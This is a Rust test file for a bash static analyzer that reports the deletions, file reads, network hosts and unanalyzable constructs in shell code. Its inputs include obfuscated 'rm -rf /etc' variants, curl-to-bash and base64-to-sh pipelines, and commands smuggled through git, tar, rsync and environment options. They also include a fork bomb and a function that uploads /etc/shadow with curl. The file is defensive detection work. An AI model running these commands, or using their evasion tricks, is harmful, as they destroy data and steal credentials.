//! What the bash analyzer reports for representative code.

use inspect::{Context, Exactness, Lang, Op, ProgramKind, analyze};

fn ctx() -> Context {
    Context::new("/w/p", "/w/p", "/home/u")
}

fn ops(code: &str) -> Vec<Op> {
    analyze(Lang::Bash, code, &ctx()).ops
}

fn execs(code: &str) -> Vec<String> {
    ops(code)
        .into_iter()
        .filter_map(|o| match o {
            Op::Exec { program, .. } => Some(program),
            _ => None,
        })
        .collect()
}

fn deletes(code: &str) -> Vec<(String, Exactness)> {
    ops(code)
        .into_iter()
        .filter_map(|o| match o {
            Op::FileDelete { path, .. } => Some((path.path, path.exact)),
            _ => None,
        })
        .collect()
}

fn reads(code: &str) -> Vec<String> {
    ops(code)
        .into_iter()
        .filter_map(|o| match o {
            Op::FileRead { path } => Some(path.path),
            _ => None,
        })
        .collect()
}

fn has_opaque(code: &str) -> bool {
    ops(code).iter().any(|o| matches!(o, Op::Opaque { .. }))
}

fn hosts(code: &str) -> Vec<String> {
    ops(code)
        .into_iter()
        .filter_map(|o| match o {
            Op::Network { host, .. } => Some(host),
            _ => None,
        })
        .collect()
}

#[test]
fn quoting_and_system_paths_normalize() {
    for code in [
        "rm -rf /etc",
        "'r''m' -rf /etc",
        "$'\\x72\\x6d' -rf /etc",
        "/bin/rm -rf /etc",
        "/usr/bin/rm -rf /etc",
        "\\rm -rf /etc",
        "\"rm\" -rf /etc",
    ] {
        assert_eq!(execs(code), vec!["rm"], "{code}");
        assert_eq!(
            deletes(code),
            vec![("/etc".to_string(), Exactness::Literal)],
            "{code}"
        );
    }
}

#[test]
fn workspace_relative_program_is_project_code() {
    let o = ops("./sed -i s/a/b/ f");
    assert!(o.iter().any(|op| matches!(op, Op::Exec { program, kind: ProgramKind::Project, .. } if program == "/w/p/sed")));
    let a = analyze(Lang::Bash, "bin/grep x", &ctx());
    assert_eq!(a.scripts.len(), 1);
    assert_eq!(a.scripts[0].path, "/w/p/bin/grep");
}

#[test]
fn variables_tilde_and_cd_resolve() {
    assert_eq!(
        deletes("x=rm; d=~/work; $x -rf $d"),
        vec![("/home/u/work".to_string(), Exactness::Literal)]
    );
    assert_eq!(
        deletes("cd /tmp && rm -rf x"),
        vec![("/tmp/x".to_string(), Exactness::Literal)]
    );
    assert_eq!(
        deletes("rm -rf ../*"),
        vec![("/w/*".to_string(), Exactness::Glob)]
    );
    assert_eq!(reads("p=/etc/sha; cat ${p}dow"), vec!["/etc/shadow"]);
    // IFS splitting makes separate words.
    assert_eq!(execs("rm${IFS}-rf${IFS}/"), vec!["rm"]);
    assert_eq!(
        deletes("rm${IFS}-rf${IFS}/"),
        vec![("/".to_string(), Exactness::Literal)]
    );
}

#[test]
fn computed_command_names_are_opaque() {
    // Static output is resolved, so the trick gains nothing.
    assert_eq!(execs("$(echo r)m -rf /"), vec!["echo", "rm"]);
    assert!(has_opaque("$(cat name.txt) -rf /"));
    assert!(has_opaque("v=CMD; ${!v}"));
    assert!(has_opaque("${PATH:0:1}bin${PATH:0:1}rm -rf ~"));
    assert!(has_opaque("cmd=$(curl -s x.sh); $cmd"));
}

#[test]
fn unknown_paths_stay_unknown() {
    let d = deletes("rm -rf \"$TARGET\"/build");
    assert_eq!(d.len(), 1);
    assert_eq!(d[0].1, Exactness::Unknown);
}

#[test]
fn wrappers_are_seen_through() {
    for code in [
        "sudo rm -rf /opt/app",
        "env -i /bin/rm -rf /opt/app",
        "command rm -rf /opt/app",
        "builtin command rm -rf /opt/app",
        "exec rm -rf /opt/app",
        "nice -n 10 rm -rf /opt/app",
        "nohup rm -rf /opt/app",
        "timeout 100 rm -rf /opt/app",
        "stdbuf -o0 rm -rf /opt/app",
        "time rm -rf /opt/app",
        "busybox rm -rf /opt/app",
        "FOO=1 rm -rf /opt/app",
        "echo /opt/app | xargs rm -rf",
    ] {
        assert_eq!(
            deletes(code),
            vec![("/opt/app".to_string(), Exactness::Literal)],
            "{code}"
        );
    }
    assert!(
        ops("sudo ls")
            .iter()
            .any(|o| matches!(o, Op::Privilege { .. }))
    );
    let f = deletes("find /var/www -name '*.php' -exec rm -r {} \\;");
    assert_eq!(f[0].0, "/var/www");
    assert_eq!(f[0].1, Exactness::Unknown);
    assert!(!deletes("find . -name '*.pyc' -delete").is_empty());
}

#[test]
fn nested_interpreters_are_followed() {
    assert_eq!(
        deletes("bash -c 'rm -rf /etc'"),
        vec![("/etc".to_string(), Exactness::Literal)]
    );
    assert_eq!(
        deletes("sh -c \"sh -c 'rm -rf /etc'\""),
        vec![("/etc".to_string(), Exactness::Literal)]
    );
    assert_eq!(
        deletes("sh <<< 'rm -rf /etc'"),
        vec![("/etc".to_string(), Exactness::Literal)]
    );
    assert_eq!(
        deletes("bash <<EOF\nrm -rf /etc\nEOF"),
        vec![("/etc".to_string(), Exactness::Literal)]
    );
    assert_eq!(
        deletes("echo 'rm -rf /etc' | sh"),
        vec![("/etc".to_string(), Exactness::Literal)]
    );
    assert!(has_opaque("curl -s http://x/p | bash"));
    assert!(has_opaque("echo cm0gLXJmIH4= | base64 -d | sh"));
    assert!(has_opaque("bash <(curl -s http://x/p)"));
    assert!(has_opaque("perl -e 'system(\"id\")'"));
    assert!(has_opaque("eval \"$(curl -s x)\""));
}

#[test]
fn options_and_variables_that_execute() {
    assert!(!deletes("git -c core.pager='rm -rf /etc' log").is_empty());
    assert!(execs("git -c alias.x='!sh -c id' x").contains(&"id".to_string()));
    assert!(
        !deletes("tar -cf a.tar --checkpoint=1 --checkpoint-action=exec='rm -rf /etc' x")
            .is_empty()
    );
    assert!(!deletes("rsync -e 'rm -rf /etc' a b:").is_empty());
    assert!(has_opaque("ssh -o ProxyCommand='nc x 22' host"));
    assert!(has_opaque("LD_PRELOAD=/tmp/x.so ls"));
    assert!(has_opaque("BASH_ENV=./x.sh bash -c true"));
    assert!(!deletes("GIT_SSH_COMMAND='rm -rf /etc' git fetch").is_empty());
    assert!(!deletes("awk 'BEGIN{system(\"rm -rf /etc\")}'").is_empty());
    assert!(execs("sed -n '1e id' f").contains(&"id".to_string()));
    assert!(has_opaque("sed 's/x/id/e' f"));
}

#[test]
fn sql_and_python_in_shell_reach_their_analyzers() {
    let o = ops("psql -d prod -c 'DROP TABLE users'");
    assert!(o.iter().any(|op| matches!(op, Op::Sql(s) if s.verb.starts_with("DROP") && s.database.as_deref() == Some("prod"))), "{o:?}");
    let o = ops("sqlite3 app.db <<'EOF'\nDELETE FROM t;\nEOF");
    assert!(
        o.iter()
            .any(|op| matches!(op, Op::Sql(s) if s.verb.starts_with("DELETE"))),
        "{o:?}"
    );
}

#[test]
fn network_hosts_are_extracted() {
    assert_eq!(hosts("curl -s https://Example.com/x"), vec!["example.com"]);
    assert_eq!(hosts("wget http://127.0.0.1:8080/"), vec!["127.0.0.1"]);
    assert_eq!(
        hosts("scp a.txt user@host.example:/tmp/"),
        vec!["host.example"]
    );
    assert_eq!(hosts("git push origin main"), vec!["git-remote"]);
    assert!(hosts("git status").is_empty());
}

#[test]
fn benign_everyday_code_has_no_surprises() {
    for code in [
        "ls -la",
        "grep -rn \"rm -rf\" .",
        "echo 'rm -rf / is dangerous' >> docs/safety.md",
        "git commit -m 'delete old users endpoint'",
        "cargo test --workspace",
        "x=$((40+2)); echo $x",
        "for f in *.txt; do wc -l \"$f\"; done",
    ] {
        assert!(!has_opaque(code), "{code}: {:?}", ops(code));
        assert!(deletes(code).is_empty(), "{code}");
    }
}

#[test]
fn loops_and_fork_bombs() {
    assert!(has_opaque(":(){ :|:& };:"));
    assert!(has_opaque("while true; do echo x >> big.log; done"));
    assert!(!has_opaque("while read l; do echo $l; done < f.txt"));
    assert!(!has_opaque(
        "fact() { if [ $1 -le 1 ]; then echo 1; else fact $(($1-1)); fi; }; fact 5"
    ));
}

#[test]
fn functions_bind_their_arguments() {
    let code = "send() { curl -s --data-binary @\"$2\" \"$1\"; }\nsend http://127.0.0.1:5758/submit /etc/shadow";
    assert!(reads(code).contains(&"/etc/shadow".to_string()));
    assert!(
        ops(code)
            .iter()
            .any(|o| matches!(o, Op::Upload { host, .. } if host == "127.0.0.1"))
    );
}

#[test]
fn broken_code_is_opaque_not_empty() {
    for code in ["if then fi (", "echo \"unterminated", "$((", "case x in"] {
        let o = ops(code);
        assert!(
            o.iter().any(|op| matches!(op, Op::Opaque { .. })),
            "{code}: {o:?}"
        );
    }
}

#[test]
fn custom_ifs_splits_and_unknown_ifs_is_unknown() {
    assert_eq!(
        deletes("IFS=,; cmd=\"rm,-rf,/opt\"; $cmd"),
        vec![("/opt".to_string(), Exactness::Literal)]
    );
    assert!(has_opaque("IFS=$(cat f); cmd=\"rm,-rf,/opt\"; $cmd"));
}

#[test]
fn pagers_and_awk_reach_files_and_commands() {
    assert!(has_opaque("less +'!id' README.md"));
    assert!(
        reads("awk 'BEGIN {while ((getline line < \"/etc/shadow\") > 0) print line}'")
            .contains(&"/etc/shadow".to_string())
    );
}

#[test]
fn oversized_descriptor_numbers_do_not_crash_the_parser() {
    // Found by cargo fuzz (sql target, through psql's shell escape).
    assert!(has_opaque("echo 88888888888>>f"));
    assert!(has_opaque("cat 99999999999<f"));
    assert!(has_opaque("echo ~99999999999999999999999"));
    assert!(has_opaque("echo ~+99999999999999999999999"));
    let sql = inspect::analyze(Lang::Sql, "\\! echo 888888888888>>x", &ctx()).ops;
    assert!(sql.iter().any(|o| matches!(o, Op::Opaque { .. })));
    // Ordinary descriptors still work.
    assert!(!has_opaque("make 2>err.log"));
}

#[test]
fn deep_parentheses_are_refused_before_the_parser_backtracks() {
    // Found by cargo fuzz: brush-parser's PEG is exponential in paren nesting.
    let deep = format!("echo | {}$x", "(".repeat(90));
    let t = std::time::Instant::now();
    assert!(has_opaque(&deep));
    assert!(t.elapsed() < std::time::Duration::from_secs(1));
    assert!(!has_opaque("x=$(( (1 + 2) * (3 + (4 - 1)) )); echo $x"));
}
